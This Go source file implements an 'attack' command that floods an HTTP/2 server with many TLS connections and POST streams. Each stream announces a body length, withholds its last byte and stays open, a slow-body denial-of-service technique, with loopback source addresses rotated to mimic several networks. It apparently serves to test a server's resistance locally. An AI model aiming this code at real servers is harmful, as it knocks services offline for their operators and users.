package main

import (
	"crypto/tls"
	"encoding/binary"
	"flag"
	"fmt"
	"io"
	"strconv"
	"sync"
	"sync/atomic"
	"time"
)

// Frames of HTTP/2 (RFC 9113) as far as a client needs them that sends bodies.
const (
	frameData         = 0
	frameHeaders      = 1
	frameReset        = 3
	frameSettings     = 4
	frameGoAway       = 7
	frameWindowUpdate = 8

	flagEndHeaders = 4

	frameHeadBytes = 9
	maxFrameBytes  = 16 << 10
	preface        = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
	firstWindow    = 65_535
)

type attackResult struct {
	Connections int   `json:"connections"`
	Sent        int64 `json:"sent"`
	Answered    int64 `json:"answered"`
	Ended       int64 `json:"ended"`
}

// attack sends all it can, then holds what it has until its time is over.
func attack(arguments []string) (any, error) {
	flags := flag.NewFlagSet("attack", flag.ExitOnError)
	address := flags.String("address", "", "host:port")
	host := flags.String("host", "localhost", "name that is asked for")
	connections := flags.Int("connections", 20, "connections")
	streams := flags.Int("streams", 250, "requests on each of them")
	body := flags.Int("body", 64<<10, "announced bytes of each body; the last one is not sent")
	networks := flags.Int("networks", 1, "client networks (/24) that the connections come from in turn")
	seconds := flags.Float64("seconds", 10, "how long")
	if err := flags.Parse(arguments); err != nil {
		return nil, err
	}
	result := &attackResult{}
	end := time.Now().Add(time.Duration(*seconds * float64(time.Second)))
	var all sync.WaitGroup
	for i := range *connections {
		network := i % *networks
		source := fmt.Sprintf("127.%d.%d.%d", 1+network>>8, network&255, 1+i%200)
		c, err := begin(source, *address, *host, result)
		if err != nil {
			// The server may refuse connections, too.
			continue
		}
		result.Connections++
		all.Go(func() { c.read(end) })
		all.Go(func() { c.send(*host, *streams, *body) })
	}
	all.Wait()
	return result, nil
}

// connection is one that sends.
type connection struct {
	*tls.Conn
	result *attackResult

	mu sync.Mutex
	// What the server takes by now.
	window int
	more   sync.Cond
	ended  bool
}

func begin(source, address, host string, result *attackResult) (*connection, error) {
	raw, err := dialFrom(source, address)
	if err != nil {
		return nil, err
	}
	conn := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, ServerName: host, NextProtos: []string{"h2"}})
	_ = conn.SetDeadline(time.Now().Add(dialTime))
	if err := conn.Handshake(); err != nil {
		raw.Close()
		return nil, err
	}
	c := &connection{Conn: conn, result: result, window: firstWindow}
	c.more.L = &c.mu
	if _, err := conn.Write(frame([]byte(preface), frameSettings, 0, 0, nil)); err != nil {
		raw.Close()
		return nil, err
	}
	return c, nil
}

func frame(to []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	n := len(payload)
	to = append(to, byte(n>>16), byte(n>>8), byte(n), kind, flags)
	to = binary.BigEndian.AppendUint32(to, stream)
	return append(to, payload...)
}

// fields are those of a POST, as literals that nobody remembers.
func fields(host string, body int) []byte {
	f := []byte{0x83, 0x84, 0x87, 0x01} // :method POST, :path /, :scheme https, :authority
	f = append(append(f, byte(len(host))), host...)
	length := strconv.Itoa(body)
	f = append(f, 0x0f, 0x0d, byte(len(length))) // content-length
	return append(f, length...)
}

func (c *connection) send(host string, streams, body int) {
	head, zeros := fields(host, body), make([]byte, maxFrameBytes)
	for i := range streams {
		stream := uint32(2*i + 1)
		out := frame(nil, frameHeaders, flagEndHeaders, stream, head)
		for left := body - 1; left > 0; {
			n := c.take(min(left, maxFrameBytes))
			if n == 0 {
				return
			}
			out = frame(out, frameData, 0, stream, zeros[:n])
			if _, err := c.Write(out); err != nil {
				return
			}
			out, left = out[:0], left-n
		}
		atomic.AddInt64(&c.result.Sent, 1)
	}
}

// take waits until the server takes bytes, and returns how many; 0 once the connection is over.
func (c *connection) take(most int) int {
	c.mu.Lock()
	defer c.mu.Unlock()
	for c.window == 0 && !c.ended {
		c.more.Wait()
	}
	if c.ended {
		return 0
	}
	n := min(most, c.window)
	c.window -= n
	return n
}

// read counts what comes back until a time, and ends the connection.
func (c *connection) read(end time.Time) {
	defer func() {
		c.mu.Lock()
		c.ended = true
		c.mu.Unlock()
		c.more.Broadcast()
		c.NetConn().Close()
	}()
	_ = c.SetDeadline(end)
	var head [frameHeadBytes]byte
	payload := make([]byte, maxFrameBytes)
	for {
		if _, err := io.ReadFull(c, head[:]); err != nil {
			return
		}
		length := int(head[0])<<16 | int(head[1])<<8 | int(head[2])
		if length > len(payload) {
			return
		}
		p := payload[:length]
		if _, err := io.ReadFull(c, p); err != nil {
			return
		}
		switch {
		case head[3] == frameHeaders:
			atomic.AddInt64(&c.result.Answered, 1)
		case head[3] == frameReset:
			atomic.AddInt64(&c.result.Ended, 1)
		case head[3] == frameGoAway:
			return
		case head[3] == frameWindowUpdate && binary.BigEndian.Uint32(head[5:]) == 0 && len(p) == 4:
			c.mu.Lock()
			c.window += int(binary.BigEndian.Uint32(p))
			c.mu.Unlock()
			c.more.Broadcast()
		}
	}
}
